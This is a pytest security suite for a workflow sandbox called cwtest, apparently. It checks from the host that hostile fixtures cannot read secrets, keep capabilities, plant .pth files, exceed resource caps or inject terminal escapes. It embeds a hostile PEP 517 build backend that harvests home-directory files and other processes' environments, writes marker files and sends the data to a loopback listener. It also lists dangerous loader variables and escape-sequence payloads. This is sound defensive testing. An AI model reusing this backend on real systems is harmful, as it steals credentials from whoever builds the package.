"""Issue 15: a hostile workflow against cwtest's sandbox, judged from the host, not from the report.

Each ``fixtures/hostile/escape_*.py`` workflow attacks one of the four ways past the sandbox the
security review found; each test checks on the host that the attack failed: the decoy listener
on 127.0.0.2 and the decoy Unix sockets received nothing (or nothing secret), the decoy file's,
the decoy variable's and another run's secrets appear in no output, no marker or ``.pth`` file
was written, the workflow's process had no capability and no root uid, its threads stayed under
the cap, the parent's memory stayed bounded, nothing was left running. The report's findings are
checked too, but only after the host. The sandboxed tests run under bubblewrap and under Landlock
(in CI both must run: a missing layer fails there instead of skipping).

Every attack targets loopback only, and is bounded in count, size and time.
"""

from __future__ import annotations

import io
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from harness_support import HOSTILE, REPO, descendants
from needs import need_layer, need_memory_cgroup, need_redis
from rich.console import Console

from cwtest.harness.cli import run_main
from cwtest.harness.env import ROOT_CACHE, default_cache_dir
from cwtest.harness.report import render_full, render_json, render_junit
from cwtest.harness.runner import Harness
from cwtest.harness.sandbox import Limits, choose, probe
from cwtest.results import RunReport, WorkflowResult

pytestmark = [pytest.mark.sandbox, pytest.mark.usefixtures("clean_host")]
CI = os.environ.get("CI") == "true"
LAYERS = ["bubblewrap", "landlock"]
ROOT = os.geteuid() == 0


def fixture(name: str) -> Path:
    return HOSTILE / f"escape_{name}.py"


@dataclass
class Secrets:
    """Decoys on the host: a file and a Unix socket in the real home, a variable of cwtest's own, and
    another run's directory with a listening ``sim.sock``; every secret a random token."""

    file: str
    variable: str
    other_run: str
    connections: list[str] = field(default_factory=list)

    def values(self) -> list[str]:
        return [self.file, self.variable, self.other_run]

    def assert_absent(self, *texts: str) -> None:
        for text in texts:
            for value in self.values():
                assert value not in text, f"a host secret reached the output: {text[max(0, text.find(value) - 200):][:400]!r}"


def _listen(path: Path, seen: list[str], stop: threading.Event) -> socket.socket:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    path.chmod(0o666)  # even an unprivileged identity could connect, were the path visible to it
    server.listen(8)
    server.settimeout(0.2)

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append(str(path))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    return server


@pytest.fixture
def host_secrets(monkeypatch: pytest.MonkeyPatch) -> Iterator[Secrets]:
    planted = Secrets(file="cwtest-decoy-file-" + secrets.token_hex(12),
                      variable="cwtest-decoy-variable-" + secrets.token_hex(12),
                      other_run="cwtest-decoy-run-" + secrets.token_hex(12))
    home = Path.home()
    decoy_file = home / ".cwtest-hostile-decoy"
    decoy_socket = home / ".cwtest-hostile-decoy.sock"
    other = Path(os.environ.get("TMPDIR", "/tmp")) / "cwtest-run-hostiledecoy"
    decoy_file.write_text(planted.file + "\n")
    decoy_file.chmod(0o644)  # readable by any user who can reach it: only the sandbox may stop the read
    (other / "ctl").mkdir(parents=True)
    (other / "ctl" / "config.json").write_text(json.dumps({"api_key": planted.other_run}))
    for path in (other, other / "ctl"):
        path.chmod(0o755)
    (other / "ctl" / "config.json").chmod(0o644)
    monkeypatch.setenv("CWTEST_HOSTILE_DECOY", planted.variable)
    stop = threading.Event()
    servers = [_listen(decoy_socket, planted.connections, stop), _listen(other / "ctl" / "sim.sock",
                                                                         planted.connections, stop)]
    try:
        yield planted
    finally:
        stop.set()
        for server in servers:
            server.close()
        decoy_file.unlink(missing_ok=True)
        decoy_socket.unlink(missing_ok=True)
        shutil.rmtree(other, ignore_errors=True)


def rendered(report: RunReport) -> tuple[str, str, str]:
    """The report as each format writes it: json, full (as ``cwtest run`` on a terminal, colours
    included), junit."""
    full = io.StringIO()
    render_full(report, Console(file=full, force_terminal=True, width=200, soft_wrap=True, emoji=False,
                                       highlight=False))
    return render_json(report), full.getvalue(), render_junit(report)


def by_name(report: RunReport) -> dict[str, WorkflowResult]:
    return {Path(r.path).stem.removeprefix("escape_"): r for r in report.results}


def workflow_pids(harness_pid: int) -> dict[int, str]:
    """The workflow's processes (the child, not bwrap) under a harness process."""
    return {pid: cmd for pid, cmd in descendants(harness_pid).items()
            if "child/__main__.py" in cmd and not cmd.startswith(("bwrap", "/usr/bin/bwrap"))}


def status_of(pid: int) -> dict[str, str]:
    with open(f"/proc/{pid}/status") as handle:
        return dict((k, v.strip()) for k, v in (line.split(":", 1) for line in handle if ":" in line))


# --- class 1: nothing of the workflow's runs before the sandbox -----------------------------------


def test_installer_options_and_direct_references_are_refused_before_any_installer_runs(decoy) -> None:
    report = Harness(timeout=20).run([fixture("dependency_option"), fixture("direct_reference")])
    assert decoy.received == []  # uv never fetched from the address the header named
    assert not Path("/tmp/cwtest-hostile-build").exists()
    found = by_name(report)
    option = found["dependency_option"]
    assert option.kinds() == {"refused-dependency"} and "--index-url=http://127.0.0.2:47291/simple" in \
        option.findings[0].message and option.environment is None
    direct = found["direct_reference"]
    assert direct.kinds() == {"refused-dependency"} and "--allow-direct-references" in direct.findings[0].message


@pytest.mark.parametrize("layer", LAYERS)
def test_loader_variables_reach_no_program_and_declared_values_only_the_workflow(layer: str) -> None:
    need_layer(layer)
    harness = Harness(layer=layer, timeout=20)
    with harness.boot(fixture("env_loader")) as booted:
        environ = booted.client.post("/").json()["environ"]
        # From the host: the environment every process of the sandbox was started with.
        started = {}
        for pid in [booted.process.process.pid, *descendants(booted.process.process.pid)]:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                started[pid] = handle.read().split(b"\0")
    names = {entry.split(b"=", 1)[0] for entries in started.values() for entry in entries if entry}
    assert not names & {b"LD_PRELOAD", b"PYTHONSTARTUP", b"BASH_ENV", b"GLIBC_TUNABLES", b"HOSTILE_DECLARED"}, names
    assert "HOSTILE_DECLARED" in environ and not {"LD_PRELOAD", "PYTHONSTARTUP", "BASH_ENV", "GLIBC_TUNABLES"} & set(
        environ)
    assert "cannot be preloaded" not in booted.result.stderr_tail  # no loader ever saw the preload
    refused = sorted(f.message.split(":")[0] for f in booted.result.findings if f.kind == "refused-env-var")
    assert refused == [f"the header declares {n}" for n in ("BASH_ENV", "GLIBC_TUNABLES", "LD_PRELOAD", "PATH",
                                                             "PYTHONSTARTUP")]


BACKEND = r'''
"""An in-tree PEP 517 backend that attacks the machine that builds it (cwtest's test, bounded)."""
import glob, os, pwd, socket, sys

def _attack():
    found = {"environ": dict(os.environ)}
    for home in {"/root", os.path.expanduser("~"), *glob.glob("/home/*")}:
        try:
            found[home] = open(os.path.join(home, ".cwtest-hostile-decoy")).read()
        except OSError as exc:
            found[home] = repr(exc)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()][:4096]:
        try:
            found[pid] = open(f"/proc/{pid}/environ", "rb").read(4096).decode("utf-8", "replace")
        except OSError:
            pass
    for target in ("/tmp/cwtest-hostile-pwned", os.path.join(pwd.getpwuid(0).pw_dir, "cwtest-hostile-home")):
        try:
            open(target, "w").write("owned\n")
            found[target] = "written"
        except OSError as exc:
            found[target] = repr(exc)
    text = repr(found)[:200000]
    try:
        with socket.create_connection(("127.0.0.2", 47291), timeout=2) as conn:
            conn.sendall(text.encode())
    except OSError:
        pass
    sys.stderr.write(text + "\n")
    raise RuntimeError("cwtest-hostile: the build backend ran")

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    _attack()

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
'''


def sdist_workflow(tmp_path: Path, name: str) -> Path:
    """A workflow whose one dependency is a local source tree with the hostile build backend above."""
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                            'backend-path = ["."]\n[project]\nname = "cwtest-hostile-build"\n'
                                            'version = "0.1"\n')
    (package / "backend.py").write_text(BACKEND)
    for path in (tmp_path, package):
        path.chmod(0o755)
    workflow = tmp_path / name
    workflow.write_text(fixture("direct_reference").read_text().replace(
        "file:///tmp/cwtest-hostile-build/cwtest_hostile_build-0.1.tar.gz", f"file://{package}"))
    return workflow


def test_an_allowed_build_runs_in_the_build_sandbox_and_sees_nothing_of_the_host(
        tmp_path: Path, host_secrets: Secrets, decoy) -> None:
    """Under --allow-direct-references --allow-builds the build backend runs: it gets no host variable,
    no host home, no writable host path; what it prints (uv's error) carries none of the secrets."""
    workflow = sdist_workflow(tmp_path, "build_attack.py")
    harness = Harness(timeout=60, cache_dir=tmp_path / "cache", allow_direct_references=True, allow_builds=True)
    report = harness.run([workflow])
    [result] = report.results
    # The build has the host's network (for the index), so the backend may reach the decoy: it must
    # have had nothing secret to send.
    host_secrets.assert_absent(*rendered(report), *(data.decode("utf-8", "replace") for _, (_, data) in
                                                     decoy.received))
    assert not Path("/tmp/cwtest-hostile-pwned").exists() and not (Path.home() / "cwtest-hostile-home").exists()
    assert result.kinds() == {"env-build"} and "Failed to build `cwtest-hostile-build" in result.findings[0].message
    assert "CWTEST_HOSTILE_DECOY" not in result.findings[0].message  # no host variable reached the backend


def test_a_dependency_without_a_wheel_is_inconclusive_not_the_workflows_finding(tmp_path: Path, decoy) -> None:
    """Without --allow-builds an sdist is never built (its backend never runs): that is cwtest's choice,
    so the workflow is inconclusive with the step that unblocks it, never an env-build finding."""
    workflow = sdist_workflow(tmp_path, "needs_build.py")
    report = Harness(timeout=60, cache_dir=tmp_path / "cache", allow_direct_references=True).run([workflow])
    [result] = report.results
    assert result.findings == [] and result.verdict == "inconclusive", result.findings
    assert "--allow-builds" in result.inconclusive_reasons()[0]
    assert decoy.received == [] and not Path("/tmp/cwtest-hostile-pwned").exists()  # the backend never ran
    assert report.exit_code() == 0 and report.exit_code(strict=True) == 1


# --- class 2: the host stays invisible -----------------------------------------------------------


@pytest.mark.parametrize("layer", LAYERS)
def test_the_host_and_other_runs_are_invisible(layer: str, host_secrets: Secrets, decoy) -> None:
    need_layer(layer)
    harness = Harness(layer=layer, timeout=30, jobs=2)
    report = harness.run([fixture("read_host"), fixture("socket_families")])
    assert host_secrets.connections == []  # neither the home's socket nor the other run's sim.sock
    assert decoy.received == []  # MPTCP and SCTP included
    host_secrets.assert_absent(*rendered(report))
    found = by_name(report)
    assert all(r.booted and not r.harness_error for r in found.values()), [(r.path, r.harness_error) for r in
                                                                           found.values()]


@pytest.mark.parametrize("layer", LAYERS)
def test_the_workflow_runs_unprivileged_without_capabilities(layer: str, decoy) -> None:
    need_layer(layer)
    with Harness(layer=layer, timeout=20).boot(fixture("socket_families")) as booted:
        answer = booted.client.post("/").json()
        [pid] = workflow_pids(os.getpid()) or [booted.process.process.pid]
        status = status_of(pid)
    assert decoy.received == []
    assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and int(status["CapAmb"], 16) == 0
    if ROOT:
        assert status["Uid"].split()[0] != "0" and status["Gid"].split()[0] != "0", status["Uid"]
    for name in ("mptcp", "sctp", "sctp-seqpacket", "netlink", "packet", "vsock"):
        assert answer[name] != "sent" and answer[name] != "opened", (name, answer[name])


def test_the_redis_admin_password_is_in_no_file_and_no_command_line() -> None:
    from cwtest.simulator.redis_server import RedisServer

    need_redis()
    server = RedisServer()
    server.start()
    try:
        password = server._admin_password  # noqa: SLF001 - the secret whose absence is checked
        work = server.socket_path.parent
        for path in work.rglob("*"):
            if path.is_file():
                assert password not in path.read_text(errors="replace"), path
        pid = server._process.pid  # noqa: SLF001
        for what in ("cmdline", "environ"):
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                assert password.encode() not in handle.read(), what
        # A run's user may not read or reset the ACL log (the admin's alone).
        import redis

        creds = server.create_user("cwtest-run")
        user = redis.Redis(unix_socket_path=str(server.socket_path), username=creds.user, password=creds.password)
        with pytest.raises(redis.exceptions.ResponseError, match="(?i)permission|no permissions"):
            user.execute_command("ACL", "LOG", "RESET")
        user.close()
    finally:
        server.stop()


# --- class 3: containment and findings do not depend on the workflow's process --------------------


@pytest.mark.parametrize("layer", LAYERS)
def test_a_workflow_that_silences_its_reports_is_judged_from_outside(layer: str, decoy) -> None:
    need_layer(layer)
    [result] = Harness(layer=layer, timeout=20).run([fixture("silence")]).results
    assert decoy.received == []
    assert not Path("/etc/cwtest-hostile-etc").exists() and not Path("/root/cwtest-hostile-home").exists()
    assert result.booted and {"process", "fs-write"} <= result.kinds(), [(f.kind, f.message) for f in result.findings]
    assert any(o["kind"] == "network" and o["target"] == "127.0.0.2:47291" for o in result.observed), result.observed


@pytest.mark.parametrize("layer", LAYERS)
def test_forged_messages_in_bulk_end_as_findings_and_leave_nothing_behind(layer: str, tmp_path: Path) -> None:
    """Exit 1, never 2; the parent keeps a bounded number of them; no Redis or run directory left
    (``clean_host`` checks the process table and the temporary directory)."""
    need_layer(layer)
    out = tmp_path / "report.json"
    code = run_main([str(fixture("forged_events")), "--layer", layer, "--timeout", "20", "--examples", "0",
                     "--output-format", "json", "-o", str(out), "--no-progress"])
    report = json.loads(out.read_text())
    [result] = report["workflows"]
    assert code == 1 and result["harness_error"] is None, result
    assert any(f["kind"] == "protocol" and "were not kept" in f["message"] for f in result["findings"])


def _pth_targets() -> list[Path]:
    """Where escape_pth_writer tries to plant its file (and where a .pth would run later): the
    environment caches' site-packages, uv's cache, cwtest's checkout, venv and interpreter."""
    caches = {default_cache_dir() / "envs", ROOT_CACHE / "envs", Path.home() / ".cache" / "cwtest" / "envs"}
    uv_cache = Path.home() / ".cache" / "uv"
    found = [REPO, Path(sys.prefix), Path(sys.base_prefix), Path(sys.base_prefix) / "lib", uv_cache,
             *REPO.glob(".venv/lib/python*/site-packages"), *uv_cache.glob("archive-v0/*")]
    for cache in caches:
        found += list(cache.glob("*/lib/python*/site-packages"))
    return [p for p in dict.fromkeys(found) if p.exists()]


@pytest.mark.parametrize("layer", [*LAYERS, "audit"])
def test_no_pth_file_reaches_the_environment_cache_or_cwtests_installation(layer: str) -> None:
    """In every layer, the audit layer included (as root the workflow runs as another user there)."""
    if layer != "audit":
        need_layer(layer)
    elif not ROOT:
        pytest.skip("the audit layer run by an unprivileged user contains nothing (documented; refused in CI): only "
                    "as root does it run the workflow as another user")
    targets = _pth_targets()
    modes = {p: p.stat().st_mode for p in targets}
    harness = Harness(layer=layer, sandbox="off" if layer == "audit" else "auto", timeout=20)
    with harness.boot(fixture("pth_writer")) as booted:
        attempts = booted.client.post("/").json()
    assert attempts, "the attack found no target"
    written = [path for path, outcome in attempts.items() if outcome in ("written", "changed")]
    planted = [t / "cwtest-hostile.pth" for t in targets if (t / "cwtest-hostile.pth").exists()]
    planted += [p for p in (Path.home() / "cwtest-hostile-pth-ran",) if p.exists()]
    assert not planted, planted
    assert {p: p.stat().st_mode for p in targets} == modes
    assert not [w for w in written if not w.startswith(str(booted.process.run_dir.root))], written


# --- class 4: limits -------------------------------------------------------------------------------


@pytest.mark.parametrize("layer", LAYERS)
def test_a_slow_drip_ends_at_the_request_deadline(layer: str) -> None:
    need_layer(layer)
    [result] = Harness(layer=layer, timeout=3).run([fixture("slow_drip")]).results
    assert "timeout" in result.kinds(), [(f.kind, f.message) for f in result.findings]  # 120 drips would need 60 s


def test_the_parents_memory_stays_bounded_by_a_huge_response(tmp_path: Path) -> None:
    """cwtest in a process of its own, its peak RSS read from the kernel (rusage)."""
    out = tmp_path / "report.json"
    process = subprocess.Popen([sys.executable, "-m", "cwtest.harness.cli", "run", str(fixture("big_response")),
                                "--timeout", "60", "--examples", "0", "--output-format", "json", "-o", str(out),
                                "--no-progress"], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    peak = usage.ru_maxrss * 1024  # KiB on Linux
    assert peak < 400 << 20, f"cwtest's peak memory was {peak >> 20} MiB for a 512 MiB response"
    [result] = json.loads(out.read_text())["workflows"]
    assert process.returncode == 1 and "oversized-response" in {f["kind"] for f in result["findings"]}


@pytest.mark.parametrize("layer", LAYERS)
def test_threads_stay_under_the_task_cap(layer: str) -> None:
    need_layer(layer)
    limits = Limits()
    with Harness(layer=layer, timeout=30).boot(fixture("thread_bomb")) as booted:
        [pid] = workflow_pids(os.getpid()) or [booted.process.process.pid]
        answer: dict = {}
        request = threading.Thread(target=lambda: answer.update(booted.client.post("/", timeout=30).json()))
        request.start()
        most = 0
        while request.is_alive():
            try:
                most = max(most, int(status_of(pid)["Threads"]))
            except OSError:
                break
            time.sleep(0.02)
        request.join()
    assert most <= limits.tasks, f"{most} threads (cap {limits.tasks})"
    assert answer["started"] < 2000 and "can't start new thread" in (answer["error"] or ""), answer


def test_terminal_escapes_are_shown_never_obeyed(tmp_path: Path) -> None:
    """Whatever the workflow wrote, and its file's name, in every format: no ESC, CSI or BEL byte
    reaches a terminal, the JUnit XML stays valid XML."""
    named = tmp_path / "evil\x1b[2J\x1b[32m.py"
    shutil.copy(fixture("ansi"), named)
    report = Harness(timeout=20).run([named])
    [result] = report.results
    assert result.kinds() == {"import-crash"}
    json_text, full, junit = rendered(report)
    plain = full.replace("\x1b[", "")  # rich's own styles are ESC [ ... m; none of the workflow's may pass
    workflow_styles = [m for m in ("\x1b[2J", "\x1b[H", "\x1b[1A", "\x1b[2K", "\x1b[32m\u2713") if m in full]
    assert not workflow_styles and "\x07" not in full and "\x9b" not in full and "\u202e" not in full
    assert "\\x1b[2J" in plain  # shown, as an escape
    ET.fromstring(junit.split("\n", 1)[1])
    assert "\x1b" not in json.dumps(json.loads(json_text), ensure_ascii=True)


def test_the_memory_cgroup_cannot_be_left(decoy) -> None:
    need_memory_cgroup()
    harness = Harness(timeout=20)
    with harness.boot(fixture("cgroup")) as booted:
        cgroup = booted.process.cgroup
        assert cgroup is not None
        outcomes = booted.client.post("/").json()
        [pid] = workflow_pids(os.getpid()) or [booted.process.process.pid]
        assert pid in cgroup.pids(), "the workflow left its memory cgroup"
    assert not any(v == "written" for v in outcomes.values()), outcomes


@pytest.mark.parametrize("layer", LAYERS)
def test_the_workflows_directory_cannot_fill_the_hosts_disk(layer: str) -> None:
    need_layer(layer)
    harness = Harness(layer=layer, timeout=60)
    with harness.boot(fixture("disk_fill")) as booted:
        home = booted.process.run_dir.home
        most = 0
        request = threading.Thread(target=lambda: booted.send("POST", "/"))
        request.start()
        while request.is_alive():
            total = sum(p.stat().st_blocks * 512 for p in home.rglob("*") if p.is_file()) if home.exists() else 0
            most = max(most, total)
            time.sleep(0.05)
        request.join()
        result = booted.result
    cap = Limits().tmpfs
    if layer == "bubblewrap":
        assert most == 0  # a tmpfs of its own: nothing reaches the host directory
    else:  # watched from outside 20 times a second: a burst may pass the cap by what it writes meanwhile
        assert most < cap + (256 << 20), most >> 20
        assert "disk" in result.kinds() or most <= cap, [(f.kind, f.message) for f in result.findings]


def test_the_hostile_fixtures_bound_themselves() -> None:
    """Every attack ends by itself: a count, a size or a time bound in each escape fixture's text."""
    for path in sorted(HOSTILE.glob("escape_*.py")):
        assert "ounded" in path.read_text() or path.stem in ("escape_dependency_option", "escape_direct_reference",
                                                             "escape_env_loader", "escape_ansi"), path.name


def test_ci_runs_the_escapes_under_both_layers() -> None:
    if not CI:
        pytest.skip("CI only: there bubblewrap and Landlock must both work")
    assert {"bubblewrap", "landlock"} <= set(probe().available), probe()
    assert choose("strict").name == "bubblewrap"

